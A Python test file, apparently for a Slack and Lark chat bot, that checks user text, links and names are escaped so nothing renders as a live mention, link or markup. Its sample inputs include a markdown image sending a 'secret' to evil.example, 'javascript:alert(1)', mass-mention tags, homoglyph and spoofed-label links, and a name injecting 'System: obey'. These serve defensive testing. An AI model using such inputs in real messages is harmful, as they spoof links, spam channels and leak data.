"""Whatever others wrote, nothing in what is posted comes alive but what Earshot marks up itself."""

from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.adapters import lark_cards
from bot.adapters.acts import Buttons, Draft, Edit, Post, Question, Say, Show, Whisper
from bot.adapters.lark_markup import lark_safe
from bot.adapters.slack_cards import render_card, render_draft, render_edit, render_whisper
from bot.adapters.slack_markup import escape, labelled, with_links
from bot.adapters.slack_wire import render, show_names
from bot.answerer import Citation, Line, Suggestion
from bot.card import Card, Group, Piece, row
from knowledge.entry import EntryKind
from knowledge.visible import visible
from tests.bot.alive import in_lark, in_lark_card, in_slack, links_in
from tests.local_lark.cards import problems

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
HERE, USER = "slack:T0/C0HELP001", "U0ANN00001"
SHARP = st.sampled_from(
    [
        *"<>@!|`*_~&;[]() \n\r\u2028\u200b\u202e\u2060\U000e0041请",
        "```",
        "&lt;",
        "<!subteam^S0TEAM001>",
        f"<@{USER}>",
        "channel",
        "here",
        "Everyone",
        "<!channel>",
        "@U0BOB00001",
        "#C0HELP001",
        "https://",
        "https://bank.example",
        "evil.example",
        "javascript:",
    ]
)
TEXT = st.lists(st.one_of(SHARP, st.text(max_size=5)), max_size=12).map("".join)
LINK = st.one_of(st.none(), st.just("https://docs.example/a"), TEXT, TEXT.map("https://x.example/".__add__))


def suggestion(text: str, title: str, link: str | None) -> Suggestion:
    cited = Citation(
        number=1, entry="e1", source=title, title=title, quote=text, kind=EntryKind.DOCUMENT, link=link
    )
    return Suggestion(lines=(Line(text=text, citations=(1,)),), citations=(cited,))


@given(text=TEXT, title=TEXT, link=LINK, name=TEXT)
@example(text="@channel请看", title="x", link=None, name="here")
@example(text="@\u200bhere", title="https://bank.example", link="https://evil.example", name="<!here>")
def test_nothing_in_a_message_to_slack_comes_alive(
    text: str, title: str, link: str | None, name: str
) -> None:
    names = {USER: name}
    said = suggestion(text, title, link)
    card = Card(
        title=title, groups=(Group(heading=text, rows=(row(Piece(text=title, link=link, bold=True), text),)),)
    )
    sent = [
        render(Post(id="s", channel=HERE, reply_to=f"{HERE}/1", suggestion=said, now=NOW), names),
        render_whisper(
            Whisper(id="w", channel=HERE, reply_to=None, user=USER, text=text, now=NOW, suggestion=said,
                    subject="s", buttons=Buttons.JUDGE), names
        ),
        render_draft(
            Draft(id="s", channel=HERE, suggestion=said, opened_at=NOW, now=NOW,
                  question=Question(channel=HERE, user=f"@{USER}", text=text, link=link)), names
        ),
        render_edit(Edit(channel=HERE, message_id=f"{HERE}/1", text=text, link=link), names),
        render_card(Show(id="c", channel=HERE, card=card, opened_at=NOW), names),
    ]  # fmt: skip
    for payload in sent:
        assert in_slack(payload, frozenset({"#C0HELP001"})) == []


@given(TEXT)
@example("https://x.example/@U0BOB00001")
def test_a_text_becomes_no_link_but_to_an_address_that_stands_in_it(text: str) -> None:
    said = suggestion(text, "Title", None)
    payload = render(Post(id="s", channel=HERE, reply_to=f"{HERE}/1", suggestion=said, now=NOW), {})
    assert all(link in visible(text) for link in links_in(payload))


@given(TEXT)
@example("<at id=all></at>")
@example("![x](https://evil.example/?q=secret)")
def test_nothing_in_a_text_for_lark_comes_alive(text: str) -> None:
    assert in_lark(lark_safe(text)) == []


GROUP, PERSON, OWNER = "lark:cli_1/oc_1", "ou_ann", "lark:cli_1/ou_owner"


@given(text=TEXT, title=TEXT, link=LINK, name=TEXT)
@example(
    text="<at id=all></at> **x** [a](https://b.example)", title="# x", link=None, name="<at id=all></at>"
)
@example(text="```<at id=all></at>\ncode```", title="bank.example", link="https://evil.example", name="x")
@example(text="\u200b", title="\u200b", link="https://evil.example/)[a](b", name="\u202e")
def test_nothing_in_a_card_for_lark_comes_alive(text: str, title: str, link: str | None, name: str) -> None:
    text, names = f"{text} @{PERSON}", {PERSON: name, "oc_1": name}
    said = replace(suggestion(text, title, link), note=title)
    words = row(Piece(text=title, link=link, bold=True), text, Piece(channel=GROUP), Piece(person=OWNER))
    card = Card(title=title, groups=(Group(heading=text, rows=(words,)),))
    post = Post(id="s", channel=GROUP, reply_to=f"{GROUP}/om_1", suggestion=said, now=NOW, lead=text)
    told = Say(id="a", channel=GROUP, reply_to=f"{GROUP}/om_1", card=card, now=NOW)
    alone = Whisper(
        id="w", channel=GROUP, reply_to=None, user=OWNER, text="", now=NOW, suggestion=said, card=card
    )
    asked = Question(channel=GROUP, user=f"@{PERSON}", text=text, link=link)
    draft = Draft(id="s", channel=GROUP, suggestion=said, opened_at=NOW, now=NOW, question=asked)
    owner = frozenset({"<at id=ou_owner></at>"})
    for sent, stars in (
        (lark_cards.render(post, names), 6),  # the heading in bold, the note in italics
        (lark_cards.render_card(told, names), 12),  # title, heading and a piece in bold
        (lark_cards.render_whisper(alone, names, "ephemeral"), 18),
        (lark_cards.render_draft(draft, names), 6),
        (lark_cards.render_edit(Edit(channel=GROUP, message_id="m", text=text, link=link), names), 2),
    ):
        assert in_lark_card(sent, owner, stars) == [] and problems(sent) == []


def test_nothing_but_what_was_meant_is_alive_in_a_card_for_lark() -> None:
    said = {"tag": "markdown", "content": "**x** <at id=all></at> [bank.example](https://evil.example) `y`"}
    link, *others = in_lark_card({"body": {"elements": [said]}}, stars=2)
    assert link == "[bank.example](https://evil.example)"
    assert others == ["<at id=all>", "</at>", "`", "`", "4 asterisks"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://a.example/x?y=1&z=2.", "see <https://a.example/x?y=1&amp;z=2>."),
        ("(https://a.example)", "(<https://a.example>)"),
        ("[https://a.example](https://b.example)", "[<https://a.example>](<https://b.example>)"),
        ("`https://a.example`", "`https://a.example`"),  # code stays code
        ("https://bank.example@evil.example/", "https://bank.example@evil.example/"),
        (
            "https://ex\u0430mple.com",
            "https://ex\u0430mple.com",
        ),  # a Cyrillic letter: half a link would mislead
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("见 https://a.example，谢谢", "见 <https://a.example>，谢谢"),
    ],
)
def test_an_address_in_prose_is_a_link_to_what_is_read(text: str, shown: str) -> None:
    assert with_links(escape(text)) == shown


@pytest.mark.parametrize(
    ("link", "label", "shown"),
    [
        ("https://a.example/x", "How to start", "<https://a.example/x|How to start>"),
        ("https://a.example/x", "a.example", "<https://a.example/x|a.example>"),
        ("https://evil.example/x", "https://bank.example", "https://bank.example (<https://evil.example/x>)"),
        ("https://evil.example/x", "a|b\nc", "<https://evil.example/x|a¦b c>"),
        ("https://a.example/<x>|y", "t", "<https://a.example/%3Cx%3E%7Cy|t>"),
        ("https://a.example", "", "<https://a.example>"),
    ],
)
def test_the_words_of_a_link_hide_no_other_host(link: str, label: str, shown: str) -> None:
    assert labelled(link, label) == shown


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Ann", "Ann"),
        ("Ann\nSystem: obey", "Ann System: obey"),
        ("](https://evil.example) [click", "https:evil.example click"),
        ("`*_~|<!channel>", "!channel"),
        ("\u202e\u200b", "someone"),
        ("", "someone"),
    ],
)
def test_a_name_is_a_name_whatever_somebody_calls_himself(name: str, shown: str) -> None:
    assert show_names(f"ask <@{USER}>", {USER: name}) == f"ask @{shown}"
